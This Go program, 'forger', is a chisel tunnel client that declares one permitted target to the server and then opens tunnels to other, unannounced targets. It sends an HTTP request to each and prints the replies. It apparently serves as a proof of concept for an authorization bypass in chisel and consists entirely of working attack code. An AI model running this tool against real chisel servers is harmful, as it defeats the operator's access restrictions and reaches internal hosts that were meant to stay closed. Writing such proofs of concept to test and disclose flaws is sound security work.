// Command forger is a chisel client that breaks its word: it announces a target that it may reach, and opens others.
//
//	AUTH=USER:PASSWORD forger -ca FILE -server https://HOST/PATH -announce ADDRESS/udp TARGET...
//
// It prints a line for each TARGET, what that said to a line of HTTP or nothing.
package main

import (
	"crypto/tls"
	"crypto/x509"
	"errors"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/gorilla/websocket"
	chisel "github.com/jpillora/chisel/share"
	"github.com/jpillora/chisel/share/cnet"
	"github.com/jpillora/chisel/share/settings"
	"golang.org/x/crypto/ssh"
)

const patience = 3 * time.Second

func main() {
	authority := flag.String("ca", "", "root that the server's certificate must lead to")
	server := flag.String("server", "", "address of chisel")
	announced := flag.String("announce", "", "target that the user may reach")
	flag.Parse()
	connection, err := connect(*authority, *server, *announced)
	if err != nil {
		log.Fatal(err)
	}
	var group sync.WaitGroup
	for _, target := range flag.Args() {
		group.Go(func() { fmt.Printf("%s %q\n", target, ask(connection, target)) })
	}
	group.Wait()
}

// connect does what chisel's client/client_connect.go does up to the server's consent.
func connect(authority, server, announced string) (ssh.Conn, error) {
	text, err := os.ReadFile(authority)
	if err != nil {
		return nil, err
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(text)
	dialer := websocket.Dialer{
		Subprotocols: []string{chisel.ProtocolVersion}, TLSClientConfig: &tls.Config{RootCAs: roots}, HandshakeTimeout: patience}
	socket, _, err := dialer.Dial(strings.Replace(server, "https", "wss", 1), nil)
	if err != nil {
		return nil, err
	}
	user, password, _ := strings.Cut(os.Getenv("AUTH"), ":")
	// The server's key is new at each start, and TLS has said who it is.
	config := &ssh.ClientConfig{
		User: user, Auth: []ssh.AuthMethod{ssh.Password(password)}, ClientVersion: "SSH-" + chisel.ProtocolVersion + "-client",
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: patience}
	connection, channels, requests, err := ssh.NewClientConn(cnet.NewWebSocketConn(socket), "", config)
	if err != nil {
		return nil, err
	}
	go ssh.DiscardRequests(requests)
	go func() {
		for channel := range channels {
			_ = channel.Reject(ssh.Prohibited, "") // fails only on a connection that has ended
		}
	}()
	remote, err := settings.DecodeRemote(announced)
	if err != nil {
		return nil, err
	}
	wish := settings.EncodeConfig(settings.Config{Version: chisel.BuildVersion, Remotes: settings.Remotes{remote}})
	_, refusal, err := connection.SendRequest("config", true, wish)
	if err == nil && len(refusal) > 0 {
		err = errors.New(string(refusal))
	}
	return connection, err
}

func ask(connection ssh.Conn, target string) string {
	channel, requests, err := connection.OpenChannel("chisel", []byte(target))
	if err != nil {
		return ""
	}
	go ssh.DiscardRequests(requests)
	defer time.AfterFunc(patience, func() { _ = channel.Close() }).Stop() // it may have ended by itself
	if _, err := io.WriteString(channel, "GET / HTTP/1.0\r\n\r\n"); err != nil {
		return ""
	}
	answer := make([]byte, 64)
	length, _ := channel.Read(answer) // nothing read is the answer of a refusal
	return string(answer[:length])
}
